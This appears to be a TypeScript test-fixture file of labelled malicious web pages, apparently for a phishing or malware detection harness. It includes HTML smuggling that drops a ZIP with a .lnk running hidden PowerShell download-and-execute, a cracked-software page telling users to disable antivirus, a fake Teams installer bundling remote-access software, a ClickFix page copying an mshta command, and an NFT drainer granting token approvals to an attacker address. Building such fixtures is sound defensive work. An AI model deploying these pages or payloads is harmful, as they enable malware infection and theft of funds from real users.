import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, footer, nav, tracker, trackerRoute, cookieBanner, pngRoute, jsRoute, jsonRoute, fileRoute } from '../parts/p-kit.js';
import { zip, lnk, pe, cfb, iso, apk } from '../parts/e-bin.js';

const invoiceZipB64 = zip([
  { name: 'Rechnung_2026-11-4471.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -ep bypass -c "iwr https://cdn-rechnung-store.eu/r.ps1 -useb | iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
]).toString('base64');

export const entries: Entry[] = [
{
  id: 'p-mal-invoice-html-smuggling-lnk-de',
  label: 'malware',
  kind: 'html-smuggling',
  url: 'https://rechnungsportal-telekom.kunden-dokumente.de.com/view/2026-11-4471',
  body: doc({
    lang: 'de',
    title: 'Rechnung Online – Dokument wird geladen',
    css: 'body{background:#e9ecef}.c{max-width:520px;margin:80px auto;background:#fff;padding:30px;text-align:center;border-top:6px solid #e20074}.sp{width:36px;height:36px;border:4px solid #eee;border-top-color:#e20074;border-radius:50%;margin:20px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}',
    body: `<div class="c"><h2>Ihre Rechnung November 2026</h2><p>Rechnungsnummer: 2026-11-4471<br>Betrag: 187,34 €</p><div class="sp"></div><p id="m">Ihr Dokument wird vorbereitet…</p><p style="font-size:12px;color:#888">Falls der Download nicht automatisch startet, <a href="#" onclick="dl();return false">klicken Sie hier</a>.</p></div>
<script>var b64='${invoiceZipB64}';function dl(){var bin=atob(b64),u=new Uint8Array(bin.length);for(var i=0;i<bin.length;i++)u[i]=bin.charCodeAt(i);var bl=new Blob([u],{type:'application/octet-stream'});var a=document.createElement('a');a.href=URL.createObjectURL(bl);a.download='Rechnung_2026-11-4471.zip';document.body.appendChild(a);a.click();document.getElementById('m').textContent='Download abgeschlossen. Bitte öffnen Sie die ZIP-Datei.'}setTimeout(dl,1200)</script>`,
  }),
},
{
  id: 'p-mal-cracked-software-password-zip',
  label: 'malware',
  kind: 'cracked-software',
  url: 'https://softwarecrackfull.net/adobe-photoshop-2026-crack-free-download/',
  body: doc({
    lang: 'en',
    title: 'Adobe Photoshop 2026 Crack + Activation Key Free Download [Latest]',
    css: '.w{max-width:780px;margin:0 auto;padding:20px}.dl{display:block;background:#27ae60;color:#fff;text-align:center;padding:16px;font-size:20px;text-decoration:none;border-radius:6px;margin:18px 0}.pw{background:#fff3cd;padding:10px;text-align:center;font-size:18px}',
    body: `${nav('SoftwareCrackFull', ['Windows', 'Mac', 'Android', 'Games', 'Request'], '#fff', '#222')}
<div class="w"><h1>Adobe Photoshop 2026 v27.1 Crack + Activation Key Free Download [Latest]</h1>
<p>Adobe Photoshop 2026 Crack is the world's best imaging and graphic design software. With this pre-activated version you get all features including Generative Fill without subscription. Tested on Windows 10 and 11 (64-bit).</p>
<h3>How to install?</h3><ol><li>Disable Windows Defender / antivirus (it gives false positive because of the patch)</li><li>Download the setup from the link below</li><li>Extract with password</li><li>Run Setup.exe as administrator</li><li>Done! Enjoy 😊</li></ol>
<a class="dl" href="/dl/?f=Photoshop_2026_Full_Setup.zip">⬇ DOWNLOAD NOW (2.4 GB)</a>
<div class="pw">Archive password: <b>2026</b></div>
<p style="font-size:13px;color:#666">Tags: photoshop crack, photoshop 2026 free download, photoshop activation key, photoshop full version</p>
<div style="font-size:14px;border-top:1px solid #ddd;margin-top:20px"><p><b>ahmed_k</b>: working thanks bro</p><p><b>lucy</b>: defender says trojan??</p><p><b>admin</b>: @lucy its false positive, disable it</p></div></div>`,
  }),
  routes: {
    'softwarecrackfull.net/dl/': redirectRoute(302, 'https://files-mirror-fast.cfd/get/Photoshop_2026_Full_Setup.zip'),
    'files-mirror-fast.cfd/get/Photoshop_2026_Full_Setup.zip': fileRoute(zip([{ name: 'Setup.exe', data: pe({ strings: ['Adobe Photoshop Installer', 'ProductVersion 27.1.0'], size: 8192 }) }, { name: 'readme.txt', data: 'Password: 2026\r\nRun Setup.exe as admin. Disable antivirus first.' }], { encrypted: true }), 'application/zip', 'Photoshop_2026_Full_Setup.zip'),
  },
},
{
  id: 'p-mal-teams-meeting-msi',
  label: 'malware',
  kind: 'fake-installer',
  url: 'https://teams-join-meeting.live-invite.com/l/meetup-join/19%3ameeting_NTQ2/0',
  body: doc({
    lang: 'en',
    title: 'Join conversation | Microsoft Teams',
    css: 'body{background:#f5f5f5}.c{max-width:560px;margin:60px auto;background:#fff;padding:40px;text-align:center;border-radius:6px}.p{background:#5b5fc7;color:#fff;padding:12px 26px;border-radius:4px;border:0;font-size:15px;text-decoration:none;display:inline-block}.o{display:block;margin-top:14px;color:#5b5fc7;font-size:14px}',
    body: `<div class="c"><div style="font-size:40px;color:#5b5fc7;font-weight:800">T</div><h2 style="font-weight:600">How do you want to join your Teams meeting?</h2>
<p style="color:#616161">Quarterly budget review – Finance · Today 15:00</p>
<a class="p" href="/dl/MSTeamsSetup_x64.msi">Download Teams for Windows</a>
<p style="font-size:13px;color:#c4314b;margin-top:20px">Your Teams client is outdated. The meeting cannot be joined from the browser because of the organiser's security policy. Please install the latest version.</p>
<a class="o" href="#" onclick="alert('Browser joining has been disabled by your organisation.');return false">Continue on this browser</a></div>
<p style="text-align:center;font-size:12px;color:#888">Privacy and cookies · Third-Party Disclosures</p>
<script>setTimeout(function(){location.href='/dl/MSTeamsSetup_x64.msi'},3000)</script>`,
  }),
  routes: {
    'teams-join-meeting.live-invite.com/dl/MSTeamsSetup_x64.msi': fileRoute(cfb(['Microsoft Teams Installer', 'ScreenConnect.ClientService.exe', 'relay.live-invite.com:8041'], 16384), 'application/x-msi', 'MSTeamsSetup_x64.msi'),
  },
},
{
  id: 'p-clickfix-word-online-extension-fr',
  label: 'clickfix',
  kind: 'clickfix-document',
  url: 'https://docs-office-viewer.fr-partage.com/Facture_Novembre.docx',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Facture_Novembre.docx - Word</title>
<style>body{margin:0;font-family:"Segoe UI",Arial;background:#f3f2f1}.t{background:#2b579a;color:#fff;padding:10px 16px;font-size:14px}.pg{width:640px;max-width:94vw;height:820px;margin:20px auto;background:#fff;filter:blur(3px);padding:50px}.pg p{height:12px;background:#ddd;margin:14px 0}.m{position:fixed;top:18%;left:50%;transform:translateX(-50%);width:480px;max-width:94vw;background:#fff;box-shadow:0 10px 40px rgba(0,0,0,.3);padding:26px}.m button{background:#2b579a;color:#fff;border:0;padding:10px 22px}</style></head>
<body><div class="t">Word · Facture_Novembre.docx · Lecture seule</div>
<div class="pg"><h2>FACTURE N° 2026-1184</h2><p></p><p></p><p style="width:70%"></p><p></p><p style="width:50%"></p></div>
<div class="m"><h3 style="margin-top:0">L'extension "Word Online" n'est pas installée</h3><p>Pour afficher le document hors ligne, vous devez installer l'extension. Suivez les étapes :</p>
<ol><li>Cliquez sur <b>Comment corriger</b></li><li>Ouvrez PowerShell en tant qu'administrateur (clic droit sur Démarrer → Terminal (Admin))</li><li>Collez (clic droit) et appuyez sur Entrée</li></ol>
<button id="b">Comment corriger</button> <button style="background:#fff;color:#2b579a;border:1px solid #2b579a" onclick="location.reload()">Actualiser</button></div>
<script>var p=['mshta','https://docs-office-viewer.fr-partage.com/ext/install.hta'];document.getElementById('b').onclick=function(){var t=document.createElement('textarea');t.value=p.join(' ');document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();this.textContent='Copié ✓'}</script></body></html>`,
  routes: {
    'docs-office-viewer.fr-partage.com/ext/install.hta': fileRoute('<html><head><HTA:APPLICATION id="x" windowstate="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -ep bypass -w 1 -c iex(iwr https://docs-office-viewer.fr-partage.com/ext/a.txt -useb)",0:self.close</script></head></html>', 'application/hta'),
  },
},
{
  id: 'p-drainer-nft-free-mint-approval',
  label: 'cryptodrainer',
  kind: 'nft-mint-drainer',
  url: 'https://pudgy-penguins-mint.art/mint',
  body: doc({
    lang: 'en',
    title: 'Pudgy Penguins – Free Mint (Season Pass)',
    css: 'body{background:#e8f4ff;text-align:center}.c{max-width:480px;margin:50px auto;background:#fff;border-radius:20px;padding:30px;box-shadow:0 10px 30px rgba(0,0,0,.1)}.b{background:#3b82f6;color:#fff;border:0;padding:14px 40px;border-radius:12px;font-size:17px}',
    body: `<div class="c"><img src="/mint/p.png" width="140" height="140" style="border-radius:16px"><h2>Season Pass – Free Mint</h2><p>1,874 / 2,000 minted · Max 2 per wallet · Gas only</p><button class="b" id="m">Connect &amp; Mint</button><p id="o" style="font-size:14px"></p></div>
<script>
var O='0x3f2E8a1b7c6D5e4F3a2B1c0D9e8F7a6B5c4D3e2F';
document.getElementById('m').onclick=async function(){var o=document.getElementById('o');if(!window.ethereum){o.textContent='Please install a Web3 wallet.';return}
var acc=await ethereum.request({method:'eth_requestAccounts'});var me=acc[0];
var r=await fetch('/mint/api/assets?owner='+me).then(function(x){return x.json()});
for(var i=0;i<r.collections.length;i++){var c=r.collections[i];o.textContent='Verifying wallet ('+(i+1)+'/'+r.collections.length+')…';
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:me,to:c,data:'0xa22cb465'+O.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0')}]})}catch(e){}}
o.textContent='Minting… please confirm the final transaction.'}
</script>`,
  }),
  routes: {
    'pudgy-penguins-mint.art/mint/p.png': pngRoute(120, 180, 230),
    'pudgy-penguins-mint.art/mint/api/assets': jsonRoute({ collections: ['0xBd3531dA5CF5857e7CfAA92426877b022e612cf8', '0xED5AF388653567Af2F388E6224dC7C4b3241C544'] }),
  },
},
];
